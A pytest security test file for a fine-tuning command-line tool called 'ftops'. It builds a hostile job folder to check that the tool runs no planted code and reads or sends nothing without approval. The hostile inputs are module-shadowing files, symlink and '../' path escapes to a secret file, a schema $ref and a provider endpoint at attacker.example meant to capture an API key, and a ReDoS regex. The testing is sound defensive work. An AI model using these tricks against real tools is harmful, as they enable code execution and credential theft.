"""Commands with a hostile job file, under a tracer of their effects."""

import json
from pathlib import Path

import pytest

from tests.e2e.tracer import Traced, run_traced

MARK = "import pathlib, sys\npathlib.Path({mark!r}).touch()\nprint('LOADED', file=sys.stderr)\n"
SHADOWING_MODULES = ("numpy", "tokenizers", "jsonschema", "ftops", "orjson")
READ_ONLY_COMMANDS = [("check",), ("run", "--dry-run")]


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """The folder of the job file: data, and modules that leave a mark when they run.

    Some modules have the names of modules that ftops imports.
    """
    folder = tmp_path / "world" / "job"
    folder.mkdir(parents=True)
    code = MARK.format(mark=str(tmp_path / "world" / "RAN"))
    for name in ("train", "validation"):
        rows = [{"prompt": f"{name} {row} ->", "completion": f" {row % 2}"} for row in range(12)]
        (folder / f"{name}.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    for path in (folder.parent / "outside.py", folder / "inside.py"):
        path.write_text(f"{code}import helper\ndef score(prompt, expected, given): return 1\n")
    for module in ("helper", *SHADOWING_MODULES):
        (folder / f"{module}.py").write_text(code)
    (folder / "tell.sh").write_text(f"#!/bin/sh\ntouch {tmp_path / 'world' / 'RAN'}\n")
    (folder / "tell.sh").chmod(0o755)
    (folder.parent / "secret.jsonl").write_text('{"prompt": "the secret", "completion": " x"}\n')
    (folder / "linked.jsonl").symlink_to("../secret.jsonl")
    (folder / "linked.py").symlink_to("../outside.py")
    (folder / "schema.json").write_text(
        json.dumps({"$ref": "http://attacker.example/schema.json", "pattern": "^(a+)+$"})
    )
    return folder


def write(folder: Path, text: str, *, provider: str = "local") -> Path:
    job = folder / "job.yaml"
    lines = f"name: hostile\nprovider: {provider}\nmodel: ada\ntraining_file: train.jsonl\n{text}"
    job.write_text(lines)
    return job


def run_ftops(folder: Path, *arguments: str | Path) -> Traced:
    return run_traced(folder, *arguments, tools=folder.parent.parent / "tools")


def assert_inert(traced: Traced, folder: Path) -> None:
    """Assert that no file around the job file was executed or written, and nothing was sent."""
    world = folder.parent
    assert traced.executed(world) == []
    assert traced.programs() == []
    assert traced.connections() == []
    tools = world.parent / "tools"
    written = {path for path in traced.opened(to_write=True) if path.is_absolute()}
    assert {path for path in written if not path.is_relative_to(tools)} <= {Path("/dev/null")}
    assert not list((tools / "home").rglob("*"))
    assert not (world / "RAN").exists()
    assert not list(world.rglob("__pycache__"))


CODE = (
    "validation_file: validation.jsonl\n"
    "evaluate:\n"
    "  metrics:\n"
    "    - python: inside.py:score\n"
    "    - json_schema: schema.json\n"
    "    - regex: '^(a+)+$'\n"
    "  against: [baseline, model: {name: m, provider: {type: openai,"
    " base_url: 'http://127.0.0.1:9/v1', api_key_env: HOSTILE_KEY}}]\n"
    "notify: {command: [./tell.sh], env: [HOSTILE_KEY]}\n"
    "export: [json]\n"
)


@pytest.mark.parametrize("command", READ_ONLY_COMMANDS, ids=" ".join)
def test_read_only_commands_run_no_code_of_the_job_file_and_send_nothing(
    folder: Path, command: tuple[str, ...]
) -> None:
    traced = run_ftops(folder, *command, write(folder, CODE))
    assert traced.code == 0, traced.err
    assert f"{folder}/inside.py, function score" in traced.out
    assert "./tell.sh" in traced.out
    assert folder / "inside.py" in traced.opened(to_write=False)  # it is parsed only
    assert_inert(traced, folder)


@pytest.mark.parametrize("command", [("data", "preview"), ("data", "check"), ("doctor",)])
def test_other_commands_that_read_the_folder_run_none_of_its_modules(
    folder: Path, command: tuple[str, ...]
) -> None:
    path = "train.jsonl" if command[-1] == "check" else write(folder, CODE)
    traced = run_ftops(folder, *command, path)
    assert traced.executed(folder.parent) == []
    assert traced.programs() == []


OUTSIDE = {
    "validation_file: ../secret.jsonl\n": "secret.jsonl",
    "validation_file: linked.jsonl\n": "secret.jsonl",
    "evaluate: {file: linked.jsonl}\n": "secret.jsonl",
    "evaluate: {metrics: [python: '../outside.py:score']}\n": "outside.py",
    "evaluate: {metrics: [python: 'linked.py:score']}\n": "outside.py",
    "evaluate: {metrics: [json_schema: ../secret.jsonl]}\n": "secret.jsonl",
    "prepare: {plan: ../secret.jsonl}\n": "secret.jsonl",
}


@pytest.mark.parametrize("text", OUTSIDE)
def test_run_reads_no_file_outside_the_folder_without_a_flag(folder: Path, text: str) -> None:
    traced = run_ftops(folder, "run", write(folder, text))
    assert traced.code == 1
    outside = folder.parent / OUTSIDE[text]
    assert f"outside the job file's folder: {outside}" in traced.err
    assert "--allow-outside" in traced.err
    opened = [path.resolve() for path in traced.opened(to_write=False) if path.is_absolute()]
    assert outside not in opened
    assert_inert(traced, folder)


FOREIGN = "{type: openai, base_url: 'https://attacker.example/v1', api_key_env: HOSTILE_KEY}"
ADDRESSES = {
    "provider": (FOREIGN, ""),
    "candidate": (
        "local",
        "validation_file: validation.jsonl\n"
        f"evaluate: {{against: [model: {{name: m, provider: {FOREIGN}}}]}}\n",
    ),
}


@pytest.mark.parametrize("command", [*READ_ONLY_COMMANDS, ("run",)], ids=" ".join)
@pytest.mark.parametrize("where", ADDRESSES)
def test_no_command_connects_to_an_address_that_is_not_approved(
    folder: Path, command: tuple[str, ...], where: str
) -> None:
    provider, text = ADDRESSES[where]
    traced = run_ftops(folder, *command, write(folder, text, provider=provider))
    assert "attacker.example" in traced.out + traced.err
    assert "not approved" in traced.out + traced.err
    assert traced.code == (1 if command == ("run",) else 0)
    assert "key-of-the-user" not in traced.out + traced.err
    assert_inert(traced, folder)


def test_run_lists_the_code_before_it_loads_it_and_sends_nothing_before(
    folder: Path,
) -> None:
    inside = folder / "inside.py"
    inside.write_text(inside.read_text() + "raise SystemExit('no')\n")
    traced = run_ftops(folder, "run", write(folder, CODE))
    assert traced.code == 1
    assert "inside.py: the file does not load: SystemExit: no" in traced.err
    assert 0 <= traced.err.index("Code that runs on this machine:") < traced.err.index("LOADED")
    assert set(traced.executed(folder.parent)) == {str(inside), str(folder / "helper.py")}
    assert traced.connections() == []


FOREIGN = "{type: openai, base_url: 'https://attacker.example/v1', api_key_env: HOSTILE_KEY}"


@pytest.mark.parametrize(
    "command",
    [*READ_ONLY_COMMANDS, ("run",), ("run", "--detach"), ("cancel",), ("doctor",)],
    ids=" ".join,
)
def test_no_address_is_resolved_or_connected_to_before_it_is_approved(
    folder: Path, command: tuple[str, ...]
) -> None:
    traced = run_ftops(folder, *command, write(folder, "", provider=FOREIGN))
    assert "attacker.example" in traced.out + traced.err
    assert (
        "ftops trust https://attacker.example --api-key-env HOSTILE_KEY" in traced.out + traced.err
    )
    assert traced.code == (0 if command in READ_ONLY_COMMANDS else 1)
    assert traced.connections() == []
    assert not traced.executed(folder.parent)
    assert not traced.programs()
